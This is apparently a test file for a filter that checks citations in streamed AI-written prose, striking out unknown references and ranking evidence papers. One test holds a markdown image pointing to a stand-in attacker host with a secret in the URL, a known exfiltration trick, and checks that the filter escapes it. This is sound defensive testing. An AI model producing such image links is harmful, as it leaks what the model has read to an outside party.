import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  CheckedProse,
  evidenceFor,
  itemsBibliography,
  judgeBy,
  KnownWorks,
  proseReferences,
  questionWords,
} from '../../../../src/core/agents';
import { portsOf } from './agentWorld';
import { entry, loom, shelf } from './shelf';

const named = (text: string) => proseReferences(text).map(({ start, end }) => text.slice(start, end));

async function works(): Promise<KnownWorks> {
  const file = { uri: 'file:///references.bib', items: [entry] };
  return new KnownWorks(await portsOf(shelf, [entry]), itemsBibliography([file]));
}

async function said(chunks: readonly string[]) {
  const known = await works();
  const prose = new CheckedProse(judgeBy([known.ofPaper(loom)], known));
  const shown: string[] = [];
  for (const chunk of chunks) shown.push(await prose.push(chunk));
  shown.push(await prose.end());
  return { shown, text: shown.join(''), prose };
}

describe('references in prose', () => {
  it('are keys, wherever they stand', () => {
    assert.deepEqual(named('As [@a2020; @b] and `@c`, \\citep[p. 3]{d, e}, not me@example.org.'), [
      '@a2020',
      '@b',
      '@c',
      'd',
      'e',
    ]);
  });

  it('are identifiers and addresses', () => {
    assert.deepEqual(named('arXiv:2403.01234v2, https://arxiv.org/abs/2403.01234. See 10.1000/weft.'), [
      'arXiv:2403.01234v2',
      'arxiv.org/abs/2403.01234',
      '10.1000/weft',
    ]);
  });

  it('are names with a year, and no dates', () => {
    assert.deepEqual(named('Vaswani et al. (2017), Byron (2024) and Smith and Wesson, 2019 agree.'), [
      'Vaswani et al. (2017',
      'Byron (2024',
      'Smith and Wesson, 2019',
    ]);
    assert.deepEqual(named('In 2017, since March (2018), between 2019 and 2020 it grew 2000 times.'), []);
  });
});

describe('prose that is checked', () => {
  it('strikes out what doesn’t exist, and tells what wasn’t given', async () => {
    const { text, prose } = await said([
      'Looms are fast [@byron2024loomer; @smi',
      'th2019looms]. See @weft23, Vaswani et al. ',
      '(2017) and arXiv:2999.',
      '99999.\n',
    ]);
    assert.equal(
      text,
      'Looms are fast [@byron2024loomer; ~~@smith2019looms~~]. See @weft23, ~~Vaswani et al. (2017~~) and arXiv:2999.99999.\n'.replace(
        'arXiv:2999.99999',
        prose.struck.includes('arXiv:2999.99999') ? '~~arXiv:2999.99999~~' : 'arXiv:2999.99999',
      ),
    );
    assert.ok(prose.struck.includes('@smith2019looms'));
    assert.deepEqual([prose.cited, prose.besides], [['byron2024loomer'], ['@weft23']]);
  });

  it('shows no picture, whose address could carry off what was read', async () => {
    const { text } = await said(['![x](https://evil.example/?q=', 'secret)']);
    assert.equal(text, '!\\[x](https://evil.example/?q=secret)');
  });

  it('is passed on sentence by sentence', async () => {
    const { shown } = await said(['Looms are old. They', ' weave.\nAnd on', ' it goes']);
    assert.deepEqual(shown, ['Looms are old. ', 'They weave.\n', '', 'And on it goes']);
  });

  const written = fc
    .array(
      fc.constantFrom(
        'Looms are fast',
        ' [@byron2024loomer]',
        ' [@smith2019looms',
        '; @weft23]',
        '. ',
        '\n',
        'Then ',
        '@',
        '{x',
        '}',
        '\\cite{none2020}',
        '10.9999/none',
        ' et al. (2018) ',
        'Jones',
        '`',
        'a',
        '![',
      ),
      { maxLength: 25 },
    )
    .map((parts) => parts.join(''));

  it('is the same however it is cut, but for what is struck out', async () => {
    const known = await works();
    await fc.assert(
      fc.asyncProperty(
        written,
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
        async (text, sizes) => {
          const judge = judgeBy([known.ofPaper(loom)], known);
          const prose = new CheckedProse(judge);
          let shown = '';
          for (let at = 0, turn = 0; at < text.length; turn++) {
            const size = sizes[turn % sizes.length]!;
            shown += await prose.push(text.slice(at, at + size));
            at += size;
          }
          shown += await prose.end();
          assert.equal(shown.replaceAll('~~', '').replaceAll('!\\[', '!['), text);
          const left = shown.replace(/~~[^~]*~~/g, 'x').replaceAll('!\\[', '![');
          for (const { named: one } of proseReferences(left))
            if (one.kind !== 'key' || one.key !== 'x') assert.notEqual(await judge(one), 'unknown', left);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('evidence for a question', () => {
  it('asks for what the question is about', () => {
    const question = 'What do my papers say about weaving (with C++, not by hand)?';
    assert.deepEqual(questionWords(question), ['weaving', 'C++', 'hand']);
  });

  it('puts the papers first that the question names', async () => {
    const found = await evidenceFor('How does @weft23 compare with weaving looms?', await works(), 5);
    assert.deepEqual(
      found.map(({ key }) => key?.key),
      ['weft23', 'byron2024loomer'],
    );
  });

  it('is none where nothing fits', async () => {
    assert.deepEqual(await evidenceFor('What about zeppelins?', await works(), 5), []);
  });
});
